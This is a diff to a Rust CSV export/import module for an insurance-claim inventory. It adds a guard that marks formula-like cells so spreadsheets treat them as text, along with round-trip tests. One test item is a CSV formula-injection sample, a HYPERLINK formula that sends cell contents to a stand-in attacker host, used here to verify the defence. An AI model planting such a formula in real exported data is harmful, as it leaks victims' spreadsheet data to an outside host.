@@ -1,9 +1,12 @@
 //! The inventory's CSV format (RFC 4180): a header row, then one row per item, money as a
 //! decimal. Import reads the same format and reports every problem by line and column before
-//! anything is saved. Parsed from bytes, so broken UTF-8 is named where it is.
+//! anything is saved. Parsed from bytes, so broken UTF-8 is named where it is. The file is
+//! opened in spreadsheets, so export marks formula-like cells as text and import removes exactly
+//! that mark ([`crate::spreadsheet`]).
 
 use super::model::{FieldError, Item, ItemDraft, ItemFields, MAX_ITEMS_PER_CLAIM};
 use super::money;
+use crate::spreadsheet;
 
 /// The columns, in order; export writes them and import requires them.
 pub const COLUMNS: [&str; 12] = [
@@ -42,13 +45,14 @@ impl std::fmt::Display for ImportError {
     }
 }
 
-fn quote(field: &str) -> String {
-    // Cells a spreadsheet might read as a formula (= + - @) are quoted; no apostrophe is
-    // prepended, because that would change the data on re-import.
-    if field.contains([',', '"', '\n', '\r']) || field.starts_with(['=', '+', '-', '@']) {
+/// One cell: guarded against formulas (a spreadsheet opens this file), then quoted when RFC 4180
+/// needs it.
+fn cell(field: &str) -> String {
+    let field = spreadsheet::guard(field);
+    if field.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", field.replace('"', "\"\""))
     } else {
-        field.to_owned()
+        field.into_owned()
     }
 }
 
@@ -59,18 +63,18 @@ pub fn export(items: &[Item]) -> String {
     for item in items {
         let f = &item.fields;
         let row = [
-            quote(&f.room),
-            quote(&f.description),
-            quote(&f.brand),
-            quote(&f.model),
-            f.quantity.to_string(),
-            f.age_years.to_string(),
-            f.age_months.to_string(),
-            f.condition.as_str().to_owned(),
-            money::decimal(f.replacement_cost_cents),
-            if f.business_use { "yes" } else { "no" }.to_owned(),
-            quote(&f.category),
-            quote(&f.notes),
+            cell(&f.room),
+            cell(&f.description),
+            cell(&f.brand),
+            cell(&f.model),
+            cell(&f.quantity.to_string()),
+            cell(&f.age_years.to_string()),
+            cell(&f.age_months.to_string()),
+            cell(f.condition.as_str()),
+            cell(&money::decimal(f.replacement_cost_cents)),
+            cell(if f.business_use { "yes" } else { "no" }),
+            cell(&f.category),
+            cell(&f.notes),
         ];
         out.push_str(&row.join(","));
         out.push_str("\r\n");
@@ -227,7 +231,8 @@ pub fn parse_with_lines(bytes: &[u8]) -> Result<Vec<(usize, ItemFields)>, Vec<Im
         let mut texts = Vec::with_capacity(COLUMNS.len());
         for (raw, column) in row.fields.iter().zip(COLUMNS) {
             match std::str::from_utf8(raw) {
-                Ok(t) => texts.push(t.to_owned()),
+                // Undo the mark `export` puts before formula-like cells.
+                Ok(t) => texts.push(spreadsheet::unguard(t).to_owned()),
                 Err(_) => {
                     errors.push(ImportError::new(line, column, "is not valid UTF-8 text (save the file as UTF-8)"));
                     texts.push(String::new());
@@ -321,6 +326,85 @@ mod tests {
         assert_eq!(errors[0].column, "quantity");
         assert_eq!(errors[1].line, 3);
         assert_eq!(errors[1].column, "replacement_cost");
+    }
+
+    fn stored(draft: ItemDraft) -> Item {
+        let now = time::OffsetDateTime::UNIX_EPOCH;
+        Item {
+            id: super::super::ItemId::from_stored(String::new()),
+            claim_id: super::super::ClaimId::from_stored(String::new()),
+            seq_no: 0,
+            fields: draft.validate_all().unwrap(),
+            adjuster_comment: String::new(),
+            created_at: now,
+            updated_at: now,
+        }
+    }
+
+    #[test]
+    fn formula_like_text_is_exported_as_text_and_imports_as_the_same_items() {
+        let base = ItemDraft { room: "Kitchen".into(), quantity: 1, condition: "good".into(), ..ItemDraft::default() };
+        let items = [
+            ItemDraft {
+                description: "=HYPERLINK(\"https://evil.example/?\"&A2,\"Receipt\")".into(),
+                notes: "=1+1\nsecond line".into(),
+                ..base.clone()
+            },
+            ItemDraft { description: "=SUM(A1)".into(), room: "=Room".into(), ..base.clone() },
+            ItemDraft { description: "+1 555".into(), brand: "-12.50 off".into(), ..base.clone() },
+            ItemDraft { description: "@home".into(), category: "@cat".into(), ..base.clone() },
+            ItemDraft { description: "-dash".into(), model: "+1e5".into(), ..base.clone() },
+            // Negative-looking text stays a number in the sheet and is the same text on import.
+            ItemDraft { description: "-3".into(), model: "-12.50".into(), ..base.clone() },
+            // Typed with an apostrophe already: kept as typed.
+            ItemDraft { description: "'=x".into(), brand: "'90s".into(), notes: "'-3".into(), ..base.clone() },
+            ItemDraft {
+                description: "Lamp".into(),
+                notes: "first line\n\t=indented line".into(),
+                replacement_cost_cents: 1250,
+                ..base.clone()
+            },
+        ]
+        .map(stored);
+        let file = export(&items);
+        let rows: Vec<Vec<String>> = records(file.as_bytes())
+            .unwrap()
+            .into_iter()
+            .map(|r| r.fields.into_iter().map(|f| String::from_utf8(f).unwrap()).collect())
+            .collect();
+        assert_eq!(rows[1][1], "'=HYPERLINK(\"https://evil.example/?\"&A2,\"Receipt\")");
+        assert_eq!(rows[1][11], "'=1+1\nsecond line");
+        assert_eq!((rows[2][0].as_str(), rows[2][1].as_str()), ("'=Room", "'=SUM(A1)"));
+        assert_eq!((rows[3][1].as_str(), rows[3][2].as_str()), ("'+1 555", "'-12.50 off"));
+        assert_eq!((rows[5][1].as_str(), rows[5][3].as_str()), ("'-dash", "'+1e5"));
+        assert_eq!((rows[6][1].as_str(), rows[6][3].as_str()), ("-3", "-12.50"), "a bare number is not marked");
+        assert_eq!((rows[7][1].as_str(), rows[7][2].as_str(), rows[7][11].as_str()), ("''=x", "'90s", "''-3"));
+        for field in rows.iter().flatten() {
+            let risky = field.starts_with(['=', '+', '@', '\t', '\r'])
+                || (field.starts_with('-') && !crate::spreadsheet::is_plain_number(field));
+            assert!(!risky, "{field:?} in {file}");
+        }
+        let back = parse(file.as_bytes()).unwrap();
+        assert_eq!(back.len(), items.len());
+        for (read, item) in back.iter().zip(&items) {
+            assert_eq!(read, &item.fields);
+        }
+    }
+
+    #[test]
+    fn import_removes_the_mark_only_before_a_formula_character() {
+        let file = format!(
+            "{HEADER}'=Room,'@home,'+1 555,'-dash,1,0,0,good,1,no,'plain,\"'\t=x\nnext\"\r\nOffice,'90s desk,'',-3,1,0,0,good,1,no,,\r\n"
+        );
+        let items = parse(file.as_bytes()).unwrap();
+        let f = &items[0];
+        assert_eq!(
+            (f.room.as_str(), f.description.as_str(), f.brand.as_str(), f.model.as_str()),
+            ("=Room", "@home", "+1 555", "-dash")
+        );
+        assert_eq!((f.category.as_str(), f.notes.as_str()), ("'plain", "=x\nnext"), "stored text is trimmed");
+        let f = &items[1];
+        assert_eq!((f.description.as_str(), f.brand.as_str(), f.model.as_str()), ("'90s desk", "''", "-3"));
     }
 
     #[test]
